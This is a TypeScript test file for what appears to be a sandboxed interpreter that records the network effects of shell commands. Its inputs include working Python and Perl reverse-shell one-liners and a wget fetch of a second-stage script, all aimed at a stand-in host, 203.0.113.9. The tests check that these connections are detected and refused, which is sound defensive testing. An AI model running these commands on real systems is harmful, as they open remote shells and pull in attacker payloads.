import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runShell } from '../../../../test/support/run-shell.ts';
import { effectsOf } from './script-effect.ts';

describe('the interpreters', () => {
  it('tell where reverse shells would connect, and are refused', () => {
    const python = runShell(
      'linux-gnu',
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    );
    expect(python.urls.join(' ')).toContain('203.0.113.9:4444');
    expect(python.output).toContain('ConnectionRefusedError: [Errno 111] Connection refused\n');
    expect(python.status).toBe(1);
    const perl = runShell(
      'linux-gnu',
      `perl -e 'use Socket;$i="203.0.113.9";$p=4445;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in($p,inet_aton($i)))){exec("/bin/sh -i");};'`,
    );
    expect(perl.urls.join(' ')).toContain('203.0.113.9:4445');
    expect(perl.output).toBe('');
  });

  it('run the commands of a script and find its second stage', () => {
    const { urls, output } = runShell(
      'linux-gnu',
      `python3 -c 'import os; os.system("echo one; wget -q http://203.0.113.9/x.sh")'; perl -e 'system("echo two")'; python3 -c 'print("three")'; python3 missing.py`,
    );
    expect(urls).toContain('http://203.0.113.9/x.sh');
    expect(output).toBe(
      "one\ntwo\nthree\npython3: can't open file 'missing.py': [Errno 2] No such file or directory\n",
    );
  });

  it('read any text within their bounds', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 400, unit: 'binary-ascii' }), (text) => {
        expect(effectsOf(text).length).toBeLessThanOrEqual(32);
        expect(effectsOf(`os.system("${text}`).length).toBeLessThanOrEqual(32);
      }),
      { numRuns: 150 },
    );
    expect(effectsOf('print("'.repeat(20_000)).length).toBeLessThanOrEqual(32);
  });
});
